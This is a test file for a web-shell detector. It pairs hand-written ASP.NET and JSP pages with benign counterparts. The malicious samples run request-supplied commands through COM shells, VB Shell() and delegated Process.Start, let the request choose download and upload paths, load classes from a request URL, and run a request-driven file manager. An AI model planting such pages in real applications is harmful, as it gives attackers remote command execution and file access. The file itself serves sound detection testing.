/**
 * ASP.NET and JSP mechanisms that reach a sink without naming it at the call, or through
 * syntax the token flow has to read: COM shells bound late by ProgID or class id, VB's Shell(),
 * Process.Start kept in a delegate, WebClient downloads, VB.NET web methods and `Dim x As T =`
 * statements ending at the line's end; uploads stored by the part's own write, class loaders
 * over request URLs, and file managers that act through calls on a File. Every page was written
 * for this test from the mechanism's description, each next to an ordinary page doing the same.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf } from './helpers.js';

function outcome(path: string, code: string): string {
  const f = findingOf(path, code);
  return `${f?.verdict ?? 'clean'} ${f?.score ?? 0}: ${(f?.evidence ?? []).map((e) => e.id).join(', ')}`;
}

test('aspx late-bound COM: WScript.Shell by ProgID (VB) and Shell.Application by class id (C#) driven by name', () => {
  const vb = `<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n    Dim t As Type = Type.GetTypeFromProgID("WScript.Shell")\n    Dim o As Object = Activator.CreateInstance(t)\n    t.InvokeMember("Run", Reflection.BindingFlags.InvokeMethod, Nothing, o, New Object() {Request.Form("c")})\nEnd Sub\n</script>`;
  assert.equal(
    outcome('q01.aspx', vb),
    'malicious 17: flow/request-input-reaches-a-late-bound-shell-object-s-run-exec, capability/binds-a-windows-shell-com-object-by-progid-or-class-id',
  );
  const cs = `<%@ Page Language="C#" %>\n<%\nvar clsid = new Guid("13709620-C279-11CE-A49E-444553540000");\nvar sh = Activator.CreateInstance(Type.GetTypeFromCLSID(clsid));\nsh.GetType().InvokeMember("ShellExecute", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { "cmd.exe", "/c " + Request["c"] });\n%>`;
  assert.equal(
    outcome('g05.aspx', cs),
    'malicious 17: flow/request-input-reaches-a-late-bound-shell-object-s-run-exec, capability/binds-a-windows-shell-com-object-by-progid-or-class-id',
  );
  const pieces = `<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n    Dim n As String = "WScript" & ".Shell"\n    Dim o As Object = CreateObject(n)\n    o.Run(Request.QueryString("c"), 0, True)\nEnd Sub\n</script>`;
  assert.equal(
    outcome('g06.aspx', pieces),
    'malicious 17: flow/request-input-reaches-a-late-bound-shell-object-s-run-exec, capability/binds-a-windows-shell-com-object-by-progid-or-class-id',
  );
  const dict = `<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n    Dim t As Type = Type.GetTypeFromProgID("Scripting.Dictionary")\n    Dim d As Object = Activator.CreateInstance(t)\n    d.Add("k", Request.QueryString("k"))\n    lbl.Text = Server.HtmlEncode(d.Item("k"))\nEnd Sub\n</script>\n<asp:Label id="lbl" runat="server"/>`;
  assert.equal(outcome('t01.aspx', dict), 'clean 0: ');
});

test("aspx VB Shell(): the request's command line, and a fixed one", () => {
  const cs = `<%@ Page Language="C#" %>\n<%\nMicrosoft.VisualBasic.Interaction.Shell(Request["c"], Microsoft.VisualBasic.AppWinStyle.Hide, false, -1);\n%>`;
  assert.equal(outcome('q02.aspx', cs), 'malicious 12: flow/request-derived-variable-reaches-vb-shell');
  const fixed = `<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n    Dim pid As Integer = Shell("C:\\tools\\reindex.exe /quiet", AppWinStyle.Hide)\n    lit.Text = "started " & pid\nEnd Sub\n</script>\n<asp:Literal id="lit" runat="server"/>`;
  assert.equal(outcome('i04.aspx', fixed), 'clean 0: ');
});

test('aspx delegates: Process.Start kept in a Func and called with the request', () => {
  const shell = `<%@ Page Language="C#" %>\n<%\nFunc<string, System.Diagnostics.Process> p = System.Diagnostics.Process.Start;\np(Request.Form["x"]);\n%>`;
  assert.equal(outcome('q03.aspx', shell), 'malicious 12: flow/request-derived-variable-reaches-process-start');
  const built = `<%@ Page Language="C#" %>\n<%\nvar run = new Func<string, string, System.Diagnostics.Process>(System.Diagnostics.Process.Start);\nrun.Invoke("cmd.exe", "/c " + Request.Cookies["c"].Value);\n%>`;
  assert.equal(outcome('g03.aspx', built), 'malicious 12: flow/request-derived-variable-reaches-process-start');
  const encode = `<%@ Page Language="C#" %>\n<%\nFunc<string, string> clean = System.Web.HttpUtility.HtmlEncode;\nResponse.Write(clean(Request["q"]));\n%>`;
  assert.equal(outcome('i02.aspx', encode), 'clean 0: ');
});

test('aspx downloads: the request names the URL and the file it lands in; a fixed feed is ordinary', () => {
  const vb = `<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n    Dim wc As New System.Net.WebClient()\n    wc.DownloadFile(Request("u"), Request("p"))\nEnd Sub\n</script>`;
  assert.equal(outcome('q04.aspx', vb), 'malicious 10: flow/request-chooses-a-file-s-path-and-its-content');
  const cache = `<%@ Page Language="C#" %>\n<%\nusing (var wc = new System.Net.WebClient()) {\n    string id = Request["id"];\n    wc.DownloadFile("https://cdn.example.com/img/" + Uri.EscapeDataString(id) + ".png", Server.MapPath("~/cache/" + Guid.NewGuid().ToString("N") + ".png"));\n}\n%>`;
  assert.equal(outcome('t02.aspx', cache), 'clean 0: ');
});

test('asmx VB.NET web methods: their parameters are request input', () => {
  const db = `<%@ WebService Language="VB" Class="Db" %>\nImports System.Web.Services\nImports System.Data.SqlClient\nPublic Class Db\n    Inherits WebService\n    <WebMethod()> _\n    Public Function Query(ByVal cs As String, ByVal sql As String) As String\n        Dim cn As New SqlConnection(cs)\n        cn.Open()\n        Dim cmd As New SqlCommand(sql, cn)\n        Return Convert.ToString(cmd.ExecuteScalar())\n    End Function\nEnd Class`;
  assert.equal(outcome('q05.asmx', db), 'malicious 10: flow/request-chooses-the-database-connection-and-the-sql-it-runs');
  const calc = `<%@ WebService Language="VB" Class="Calc" %>\nImports System.Web.Services\nPublic Class Calc\n    Inherits WebService\n    <WebMethod()> _\n    Public Function Add(ByVal a As Integer, ByVal b As Integer) As Integer\n        Return a + b\n    End Function\nEnd Class`;
  assert.equal(outcome('t03.asmx', calc), 'clean 0: ');
});

test("jsp uploads: a part written where the request says; one stored under the page's own name", () => {
  const parts = `<%\nfor (javax.servlet.http.Part p : request.getParts()) {\n    p.write(request.getParameter("dir") + "/" + p.getSubmittedFileName());\n}\n%>`;
  assert.equal(outcome('r01.jsp', parts), 'malicious 10: flow/request-chooses-a-file-s-path-and-its-content');
  const item = `<%@ page import="org.apache.commons.fileupload.*,org.apache.commons.fileupload.disk.*,org.apache.commons.fileupload.servlet.*,java.io.*" %>\n<%\nServletFileUpload u = new ServletFileUpload(new DiskFileItemFactory());\nString dest = request.getParameter("path");\nfor (Object o : u.parseRequest(request)) {\n    FileItem fi = (FileItem) o;\n    if (!fi.isFormField()) fi.write(new File(dest));\n}\n%>`;
  assert.equal(outcome('h02.jsp', item), 'malicious 15: flow/request-chooses-a-file-s-path-and-its-content, flow/request-chooses-file-system-paths-the-page-passes-to-file');
  const photo = `<%\njavax.servlet.http.Part p = request.getPart("photo");\np.write(application.getRealPath("/photos") + "/" + java.util.UUID.randomUUID() + ".jpg");\n%>`;
  assert.equal(outcome('u01.jsp', photo), 'clean 0: ');
});

test('jsp class loaders over a request URL; a plugin jar of the application', () => {
  const shell = `<%\njava.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{ new java.net.URL(request.getParameter("u")) });\nl.loadClass("Payload").newInstance();\n%>`;
  assert.equal(outcome('r02.jsp', shell), 'malicious 12: flow/request-derived-variable-reaches-urlclassloader');
  const plugin = `<%\njava.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{ new java.io.File(application.getRealPath("/WEB-INF/plugins/report.jar")).toURI().toURL() });\nObject r = l.loadClass("com.example.Report").newInstance();\nout.print(r);\n%>`;
  assert.equal(outcome('j03.jsp', plugin), 'clean 0: ');
});

test('jsp file managers act through calls on a File: list, delete, rename, read', () => {
  const shell = `<%@ page import="java.io.*" %>\n<%\nFile d = new File(request.getParameter("d"));\nfor (File x : d.listFiles()) out.println(x.getName() + " " + x.length());\nString rm = request.getParameter("rm");\nif (rm != null) new File(d, rm).delete();\nString cat = request.getParameter("cat");\nif (cat != null) { BufferedReader br = new BufferedReader(new FileReader(new File(d, cat))); String l; while ((l = br.readLine()) != null) out.println(l); }\n%>`;
  assert.equal(outcome('r03.jsp', shell), 'malicious 10: flow/request-chooses-file-system-paths-the-page-passes-to-file-filereader-listfiles-delete');
  const archive = `<%@ page import="java.io.*" %>\n<%\nFile d = new File(application.getRealPath("/archive"));\nfor (File x : d.listFiles()) out.println(x.getName());\n%>`;
  assert.equal(outcome('u02.jsp', archive), 'clean 0: ');
});
